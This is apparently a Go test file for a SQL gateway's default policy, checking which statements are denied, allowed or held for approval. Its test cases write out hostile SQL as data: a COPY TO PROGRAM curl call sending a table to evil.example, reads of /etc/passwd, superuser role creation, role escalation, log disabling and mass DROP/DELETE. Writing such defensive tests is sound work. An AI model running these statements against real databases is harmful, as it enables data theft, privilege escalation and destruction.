package policy

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"testing"

	"github.com/gatehouse/gatehouse/internal/classify"
	"github.com/gatehouse/gatehouse/internal/gate"
	"github.com/gatehouse/gatehouse/internal/identity"
	"github.com/gatehouse/gatehouse/internal/inspect"
	"github.com/gatehouse/gatehouse/internal/ledger"
	"github.com/gatehouse/gatehouse/internal/live"
)

// tableClasses is the classification catalog's answer for the tests: which tables hold which
// sensitive classes. It is data, the way internal/classify would report it.
type tableClasses map[string][]string

func (c tableClasses) SensitiveClasses(_ context.Context, _ string, tables []string) []string {
	var out []string
	for _, t := range tables {
		t = strings.TrimPrefix(strings.ToLower(t), "public.")
		out = append(out, c[t]...)
	}
	return out
}

func (c tableClasses) SensitiveColumns(_ context.Context, _ string, tables []string) map[string]string {
	out := map[string]string{}
	for _, t := range tables {
		t = strings.TrimPrefix(strings.ToLower(t), "public.")
		for _, cl := range c[t] {
			out["public."+t+"."+cl] = cl
		}
	}
	return out
}

func (c tableClasses) Invalidate(string) {}

// Snapshot and NotNull complete gate.Catalog: no column-level catalogue in these tests.
func (c tableClasses) Snapshot(context.Context, string) (*classify.Snapshot, error) { return nil, nil }
func (c tableClasses) NotNull(context.Context, string, string, []string) bool       { return false }

func (c tableClasses) FunctionEffects(context.Context, string) inspect.FunctionEffect { return nil }

var _ gate.Catalog = tableClasses(nil)

// TestDefaultPolicyThroughInspector runs real SQL through the real inspector and the gate's
// Check with the default policy: the hazards are refused however they are written.
func TestDefaultPolicyThroughInspector(t *testing.T) {
	e := newEngine(t)
	g := &gate.Gate{Inspector: inspect.New(1000), Policy: e, Catalog: tableClasses{"users": {"email", "ssn"}},
		Log: slog.New(slog.NewTextHandler(io.Discard, nil))}
	ctx := context.Background()
	dbaProd := who("dan@corp.example", identity.Human, "prod", "dba")
	dbaDev := who("dan@corp.example", identity.Human, "dev", "dba")
	reader := who("alice@corp.example", identity.Human, "prod")
	writer := who("alice@corp.example", identity.Human, "dev")
	agent := who("copilot", identity.Agent, "dev")
	compliance := who("carl@corp.example", identity.Human, "prod", "compliance")
	for _, s := range []*gate.Session{dbaProd, dbaDev, reader, writer, agent, compliance} {
		d, err := g.OpenSession(ctx, s)
		if err != nil || d.Action != gate.Allow {
			t.Fatalf("open session for %s: %+v %v", s.Identity.Subject, d, err)
		}
	}
	cases := []struct {
		s      *gate.Session
		sql    string
		action gate.Action
		rule   string
	}{
		// DROP / TRUNCATE in production, however written.
		{dbaProd, "DROP TABLE users", gate.Deny, "no-drop-or-truncate-in-production"},
		{dbaProd, `/* harmless */ DrOp   TaBlE "public"."users"`, gate.Deny, "no-drop-or-truncate-in-production"},
		{dbaProd, "SELECT 1; drop table if exists users cascade", gate.Deny, "no-drop-or-truncate-in-production"},
		{dbaProd, "BEGIN; DROP SCHEMA app CASCADE; COMMIT", gate.Deny, "no-drop-or-truncate-in-production"},
		{dbaProd, "truncate only users restart identity", gate.Deny, "no-drop-or-truncate-in-production"},
		{dbaProd, "DROP DATABASE app", gate.Deny, "no-drop-or-truncate-in-production"},
		{dbaDev, "DROP TABLE users", gate.Allow, RuleDefault},
		// DDL in production is held.
		{dbaProd, "CREATE TABLE t (a int)", gate.RequireApproval, "production-schema-changes-need-approval"},
		{dbaProd, "ALTER TABLE users DROP COLUMN email", gate.RequireApproval, "production-schema-changes-need-approval"},
		{dbaProd, "create index concurrently on users (email)", gate.RequireApproval, "production-schema-changes-need-approval"},
		// Administrative changes and opaque code in production are held too, even for a DBA.
		{dbaProd, "ALTER SYSTEM SET log_statement = 'none'", gate.RequireApproval, "production-schema-changes-need-approval"},
		{dbaProd, "GRANT ALL ON users TO PUBLIC", gate.RequireApproval, "production-schema-changes-need-approval"},
		{dbaProd, "DO $$ BEGIN DELETE FROM users; END $$", gate.RequireApproval, "production-opaque-code-needs-approval"},
		{dbaProd, "CALL wipe()", gate.RequireApproval, "production-opaque-code-needs-approval"},
		{dbaDev, "DO $$ BEGIN PERFORM 1; END $$", gate.Allow, RuleDefault},
		// UPDATE / DELETE / MERGE without a narrowing condition, in every disguise (production).
		{dbaProd, "MERGE INTO users u USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "DELETE FROM users WHERE $1", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "DELETE FROM users WHERE (SELECT true)", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "UPDATE users SET email = NULL WHERE EXISTS (SELECT 1)", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "DELETE FROM users WHERE id = $1", gate.Allow, RuleDefault},
		{dbaProd, "DELETE FROM users", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "delete from public.users where true", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "UPDATE users SET email = 'x' WHERE 1 = 1", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "EXPLAIN ANALYZE DELETE FROM users", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "PREPARE p AS DELETE FROM users", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "SELECT 1; DELETE FROM users; SELECT 2", gate.Deny, "no-update-or-delete-without-where"},
		{dbaProd, "DELETE FROM users WHERE id = 42", gate.Allow, RuleDefault},
		{dbaProd, "UPDATE users SET email = 'x' WHERE id = $1", gate.Allow, RuleDefault},
		// Outside production they are ordinary development work (still recorded).
		{writer, "DELETE FROM users", gate.Allow, RuleDefault},
		{writer, "UPDATE users SET email = 'x' WHERE 1 = 1", gate.Allow, RuleDefault},
		// Outside production, write access covers development work, not roles or the server.
		{writer, "CREATE TABLE t (a int)", gate.Allow, "development-outside-production"},
		{writer, "CREATE TEMP TABLE t AS SELECT 1 AS a", gate.Allow, "development-outside-production"},
		{writer, "CREATE TYPE pair AS (a int, b text)", gate.Allow, "development-outside-production"},
		{writer, "VACUUM ANALYZE users", gate.Allow, "development-outside-production"},
		{writer, "TRUNCATE users", gate.Allow, "development-outside-production"},
		{writer, "DO $$ BEGIN PERFORM 1; END $$", gate.Allow, "development-outside-production"},
		{writer, "SELECT app.my_function()", gate.Allow, "development-outside-production"},
		{writer, "GRANT SELECT ON users TO public", gate.Allow, "development-outside-production"},
		{writer, "CREATE ROLE intruder SUPERUSER", gate.Deny, RuleAccessLevel},
		{writer, "GRANT pg_read_server_files TO alice", gate.Deny, RuleAccessLevel},
		{writer, "ALTER SYSTEM SET log_statement = 'none'", gate.Deny, RuleAccessLevel},
		{writer, "SET log_statement = 'none'", gate.Deny, RuleAccessLevel},
		{writer, "CREATE EXTENSION dblink", gate.Deny, RuleAccessLevel},
		{writer, "CREATE DATABASE other", gate.Deny, RuleAccessLevel},
		{writer, "SET ROLE postgres", gate.Deny, RuleAccessLevel},
		{writer, "SELECT pg_read_file('/etc/passwd')", gate.Deny, RuleAccessLevel},
		{writer, "COPY users FROM PROGRAM 'id'", gate.Deny, RuleAccessLevel},
		{writer, "SELECT pg_reload_conf()", gate.Deny, RuleAccessLevel},
		{writer, "SELECT pg_terminate_backend(1), app.my_function()", gate.Deny, RuleUnknown},
		{writer, "SELECT set_config('search_path', 'evil', false)", gate.Allow, RuleDefault},        // as SET search_path
		{reader, "SELECT pg_catalog.set_config('search_path', '', false)", gate.Allow, RuleDefault}, // pg_dump's first statement
		{writer, "SELECT set_config('log_statement', 'none', false)", gate.Deny, RuleAccessLevel},
		{writer, "CREATE VIEW v AS SELECT lo_from_bytea(0, 'x')", gate.Deny, RuleAccessLevel},
		{writer, "DROP EXTENSION plpgsql", gate.Deny, RuleAccessLevel},
		{writer, "ALTER ROLE alice SUPERUSER", gate.Deny, RuleAccessLevel},
		{writer, "EXECUTE never_prepared", gate.Deny, RuleUnknown},
		// Role changes escape the least-privileged upstream role.
		{dbaDev, "SET ROLE postgres", gate.Deny, "no-role-change"},
		{dbaDev, "set local role postgres", gate.Deny, "no-role-change"},
		{dbaDev, "SET SESSION AUTHORIZATION postgres", gate.Deny, "no-role-change"},
		{dbaDev, "RESET ROLE", gate.Deny, "no-role-change"},
		{dbaDev, "SET ROLE NONE", gate.Deny, "no-role-change"},
		{dbaDev, "SELECT set_config('role', 'postgres', false)", gate.Deny, "no-role-change"},
		{dbaDev, "select pg_catalog.set_config('session_authorization', 'postgres', false)", gate.Deny, "no-role-change"},
		{dbaDev, "SELECT set_config(name, 'postgres', false) FROM (VALUES ('role')) v(name)", gate.Deny, "no-role-change"},
		{dbaDev, "DISCARD ALL", gate.Deny, "no-role-change"},
		{reader, "SET ROLE postgres", gate.Deny, RuleAccessLevel},
		{reader, "SET search_path TO app, public", gate.Allow, RuleDefault},
		{reader, "DISCARD PLANS", gate.Allow, RuleDefault},
		// Functions that read files, run programs, or run SQL from strings.
		{dbaDev, "SELECT pg_read_file('/etc/passwd')", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "select PG_CATALOG.PG_READ_BINARY_FILE('/etc/passwd')", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "SELECT * FROM pg_ls_dir('.')", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "SELECT lo_import('/etc/passwd')", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "SELECT lo_export(1234, '/tmp/x')", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "SELECT * FROM dblink('host=127.0.0.1', 'SELECT 1') AS t(a int)", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "COPY users TO PROGRAM 'curl -d @- https://evil.example'", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "copy users from program 'cat /etc/passwd'", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "COPY users FROM '/etc/passwd'", gate.Deny, "no-dangerous-functions"},
		{dbaDev, "SELECT query_to_xml('SELECT 1', true, true, '')", gate.Deny, "no-dangerous-functions"},
		{writer, "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '')", gate.Deny, "no-dangerous-functions"},
		// XML output of a whole table cannot be masked column by column.
		{reader, "SELECT table_to_xml('users', true, false, '')", gate.Deny, "no-dangerous-functions"},
		{reader, "SELECT pg_read_file('/etc/passwd')", gate.Deny, RuleAccessLevel},
		// Bulk export of sensitive tables from production.
		{reader, "COPY users TO STDOUT", gate.RequireApproval, "production-sensitive-export-needs-approval"},
		{reader, "COPY (SELECT email FROM users) TO STDOUT WITH CSV", gate.RequireApproval, "production-sensitive-export-needs-approval"},
		{reader, "COPY orders TO STDOUT", gate.Allow, RuleDefault},
		{writer, "COPY users TO STDOUT", gate.Allow, RuleDefault},
		// Access levels, worst effect first.
		{reader, "SELECT * FROM users WHERE id = 1", gate.Allow, RuleDefault},
		{reader, "BEGIN; SELECT 1; COMMIT", gate.Allow, RuleDefault},
		{reader, "INSERT INTO audit VALUES (1)", gate.Deny, RuleAccessLevel},
		{reader, "WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT * FROM x", gate.Deny, RuleAccessLevel},
		{reader, "SELECT nextval('s')", gate.Deny, RuleAccessLevel},
		{reader, "SELECT * INTO copy_of_users FROM users", gate.Deny, RuleAccessLevel},
		{reader, "DO $$ BEGIN DELETE FROM users; END $$", gate.Deny, RuleUnknown},
		{reader, "CALL cleanup()", gate.Deny, RuleUnknown},
		{reader, "SELECT app.sneaky()", gate.Deny, RuleUnknown},
		{reader, "SELEC * FROM users", gate.Deny, gate.RuleSyntaxError},
		{agent, "UPDATE users SET email = 'x' WHERE id = 1", gate.Deny, RuleAccessLevel},
		{dbaDev, "DO $$ BEGIN PERFORM 1; END $$", gate.Allow, RuleDefault},
	}
	for _, c := range cases {
		t.Run(c.s.Identity.Subject+"/"+c.s.Target.Environment+"/"+c.sql, func(t *testing.T) {
			chk := g.Check(ctx, c.s, c.sql, gate.ViaQuery)
			d := chk.Decision
			if d.Action != c.action || d.Rule != c.rule {
				var facts []string
				for _, st := range chk.Statements {
					facts = append(facts, st.Kind+"/"+string(st.Category))
				}
				t.Fatalf("got %s/%s (%s), want %s/%s; statements %v", d.Action, d.Rule, d.Message, c.action, c.rule, facts)
			}
			if d.Action != gate.Allow && d.SQLState == "" && !strings.Contains(chk.DenyMessage(), d.Rule) {
				t.Fatalf("client message lacks the rule: %s", chk.DenyMessage())
			}
		})
	}
	// Masking: the compliance group sees raw values, everyone else the default profile.
	if d := g.Check(ctx, compliance, "SELECT email FROM users WHERE id = 1", gate.ViaQuery).Decision; d.MaskProfile != "none" {
		t.Fatalf("compliance: %+v", d)
	}
	if d := g.Check(ctx, reader, "SELECT email FROM users WHERE id = 1", gate.ViaQuery).Decision; d.MaskProfile != "" {
		t.Fatalf("reader: %+v", d)
	}
}

func TestExplainThroughInspector(t *testing.T) {
	e := newEngine(t)
	sts := inspect.New(10).Inspect("DELETE FROM users")
	if len(sts) != 1 {
		t.Fatalf("statements: %d", len(sts))
	}
	x := e.Explain(context.Background(), who("dan@corp.example", identity.Human, "prod", "dba"), sts[0])
	var b strings.Builder
	if err := FormatExplanation(&b, x); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"DELETE", "users", "no-update-or-delete-without-where", "DENY"} {
		if !strings.Contains(b.String(), want) {
			t.Fatalf("lacks %q:\n%s", want, b.String())
		}
	}
}

// BenchmarkGateCheckDefaultPolicy is the per-statement decision cost a door pays: cached
// inspection plus the default policy, for the pgbench -S statement.
func BenchmarkGateCheckDefaultPolicy(b *testing.B) {
	e := newEngine(b)
	g := &gate.Gate{Inspector: inspect.New(1000), Policy: e, Log: slog.New(slog.NewTextHandler(io.Discard, nil))}
	ctx := context.Background()
	s := who("alice@corp.example", identity.Human, "prod")
	if d, err := g.OpenSession(ctx, s); err != nil || d.Action != gate.Allow {
		b.Fatalf("%+v %v", d, err)
	}
	const sql = "SELECT abalance FROM pgbench_accounts WHERE aid = 4242;"
	b.ReportAllocs()
	for b.Loop() {
		if c := g.Check(ctx, s, sql, gate.ViaQuery); !c.Allowed() {
			b.Fatal(c.DenyMessage())
		}
	}
}

// discard is a Recorder that keeps nothing, so BenchmarkCheckFinish measures the gate's own
// CPU and allocations (the ledger's have their own benchmarks).
type discard struct{}

func (discard) Record(context.Context, *ledger.Event) error { return nil }
func (discard) Submit(context.Context, *ledger.Event) *ledger.Ack {
	return ledger.AnsweredAck(nil)
}
func (discard) Healthy() error { return nil }

// BenchmarkCheckFinish is a door's whole gate cost for one statement: Check (inspection,
// catalog, policy) and Finish (the ledger event) — pgbench -S in simple protocol (a new
// literal each time) and with a bound parameter, and a read of a table with sensitive
// columns.
func BenchmarkCheckFinish(b *testing.B) {
	for _, c := range []struct{ name, sql string }{
		{"simple", "SELECT abalance FROM pgbench_accounts WHERE aid = %d;"},
		{"bound", "SELECT abalance FROM pgbench_accounts WHERE aid = $1"},
		{"sensitive", "SELECT id, email FROM users WHERE id = $1"},
		// pgbench's TPC-B-like transaction, one statement per op (new literals each time,
		// negative deltas included), by a writer on a dev target.
		{"tpcb", ""},
	} {
		b.Run(c.name, func(b *testing.B) {
			e := newEngine(b)
			g := &gate.Gate{Inspector: inspect.New(1000), Policy: e, Recorder: discard{}, Catalog: tableClasses{"users": {"email", "ssn"}},
				Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Metrics: gate.NewMetrics(nil, func() int { return 0 }), Live: live.New()}
			ctx := context.Background()
			s := who("alice@corp.example", identity.Human, "prod")
			if c.name == "tpcb" {
				s = who("alice@corp.example", identity.Human, "dev")
			}
			if d, err := g.OpenSession(ctx, s); err != nil || d.Action != gate.Allow {
				b.Fatalf("%+v %v", d, err)
			}
			g.Attach(s, "pg", func(string) {})
			texts := make([]string, 1024)
			for i := range texts {
				texts[i] = c.sql
				if strings.Contains(c.sql, "%d") {
					texts[i] = fmt.Sprintf(c.sql, i)
				}
			}
			if c.name == "tpcb" {
				texts = tpcbTexts(600) // more distinct texts than the inspector keeps: a new text misses, as under pgbench
			}
			i := 0
			b.ReportAllocs()
			for b.Loop() {
				i++
				chk := g.Check(ctx, s, texts[i%len(texts)], gate.ViaQuery)
				if !chk.Allowed() {
					b.Fatal(chk.DenyMessage())
				}
				if err := g.Finish(ctx, s, chk, gate.Outcome{Rows: 1}).Wait(ctx); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// tpcbTexts is n transactions of pgbench's TPC-B-like script as a simple-protocol client
// sends them: every value a literal, the delta between -5000 and 5000.
func tpcbTexts(n int) []string {
	var out []string
	for i := 0; i < n; i++ {
		aid, tid, bid, delta := 1+i*7919%1000000, 1+i%100, 1+i%10, i*37%10001-5000
		out = append(out, "BEGIN;",
			fmt.Sprintf("UPDATE pgbench_accounts SET abalance = abalance + %d WHERE aid = %d;", delta, aid),
			fmt.Sprintf("SELECT abalance FROM pgbench_accounts WHERE aid = %d;", aid),
			fmt.Sprintf("UPDATE pgbench_tellers SET tbalance = tbalance + %d WHERE tid = %d;", delta, tid),
			fmt.Sprintf("UPDATE pgbench_branches SET bbalance = bbalance + %d WHERE bid = %d;", delta, bid),
			fmt.Sprintf("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (%d, %d, %d, %d, CURRENT_TIMESTAMP);", tid, bid, aid, delta),
			"END;")
	}
	return out
}
